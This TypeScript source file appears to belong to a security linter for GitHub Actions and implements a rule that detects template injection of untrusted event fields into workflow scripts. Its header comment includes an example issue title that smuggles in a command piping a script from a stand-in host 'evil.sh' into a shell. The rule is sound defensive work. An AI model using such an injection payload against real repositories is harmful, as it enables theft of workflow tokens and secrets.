/**
 * A `run:` script (or `actions/github-script`'s `script:`) that writes an attacker's text into its
 * own source with `${{ … }}`: GitHub substitutes the expression before the shell (or Node) reads the
 * script, so an issue titled `a"; curl evil.sh | sh; echo "` runs as code, with the job's token and
 * secrets. The most common way public repositories' workflows are taken over (GitHub's "Security
 * hardening for GitHub Actions", zizmor's template-injection, CodeQL's actions/code-injection).
 *
 * The untrusted fields are listed once, in gha-expressions.ts. A field that is only compared
 * (`${{ github.head_ref == 'main' }}`) or tested (`contains(github.event.issue.body, 'x')`) puts
 * true or false in the script, not its text, and is not reported; one wrapped in a function that
 * passes text on (`toJSON(…)`, `format(…)`, `join(…)`, `a || b`) is. A value passed through `env:`
 * and read as `"$VAR"` is never substituted into the script, which is the fix.
 *
 * A composite action of the repository (`action.yml`) is read the same way: its steps run in the job
 * of whichever workflow uses it and can read `github.event` directly. Its `${{ inputs.* }}` are the
 * caller's to pass and are not judged here.
 */
import { clipInput } from '../../../quoted-input.js';
import { injectedInputs } from '../gha-expressions.js';
import type { WorkflowRule } from '../rule.js';
import { actionName, type WorkflowValue } from '../workflow.js';

/** `github.event.issue.title` → `ISSUE_TITLE`: the name the fix suggests for the environment variable. */
function variableName(input: string): string {
  const segments = input.split('.').filter((s) => s !== 'github' && s !== 'event' && s !== '*');
  return segments.slice(-2).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
}

export const rule: WorkflowRule = {
  info: {
    id: 'gha-script-injection',
    kind: 'runtime',
    severity: 'high',
    confidence: 'high',
    title: 'Untrusted input expanded into a workflow script',
    help: 'GitHub substitutes ${{ … }} into a run: script (or actions/github-script\'s script:) before the shell reads it, so text anyone can set (an issue or pull request title or body, a branch name, a comment, a commit message) becomes code that runs with the job\'s token and secrets. Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use "$TITLE", quoted, in the script (process.env.TITLE in github-script).',
  },
  check(workflow, report) {
    // Each written script once: one given to several steps by an alias is one place to change.
    const seen = new Set<WorkflowValue>();
    for (const step of workflow.steps) {
      const owner = workflow.kind === 'action' ? 'Composite action' : `Job ${clipInput(step.job, 60)}`;
      if (step.run && !seen.has(step.run)) reportScript(step.run, 'run', owner, report);
      const script = step.uses && actionName(step.uses.value) === 'actions/github-script' ? step.with.get('script') : undefined;
      if (script && !seen.has(script)) reportScript(script, 'github-script', owner, report);
      if (step.run) seen.add(step.run);
      if (script) seen.add(script);
    }
  },
};

function reportScript(script: WorkflowValue, how: 'run' | 'github-script', owner: string, report: Parameters<WorkflowRule['check']>[1]): void {
  for (const expression of script.expressions) {
    const inputs = injectedInputs(expression.text);
    if (inputs.length === 0) continue;
    const first = inputs[0]!;
    const what = first.whole ? `${first.reference}, which holds ${first.input} (text anyone can set),` : `${first.reference} (text anyone can set)`;
    const more = inputs.length > 1 ? ` and ${inputs.length - 1} more untrusted field${inputs.length > 2 ? 's' : ''}` : '';
    const name = variableName(first.input);
    // The expression as written (`toJSON(github.event.issue)`) goes into env: as it is, when short enough to show.
    const written = expression.text.trim();
    const value = written.length <= 80 && !written.includes('\n') ? written : first.input;
    const where = how === 'run' ? 'the run: script' : 'the github-script script';
    report({
      line: expression.line,
      column: expression.column,
      message: `${owner}: ${where} expands ${what}${more} with \${{ }}, so that text becomes part of the ${how === 'run' ? 'shell script' : 'JavaScript'} and runs with the job's token and secrets.`,
      fix:
        how === 'run'
          ? `Pass it through env: (env: ${name}: \${{ ${value} }}) and use "$${name}", quoted, in the script.`
          : `Pass it through env: (env: ${name}: \${{ ${value} }}) and read process.env.${name} in the script.`,
    });
  }
}
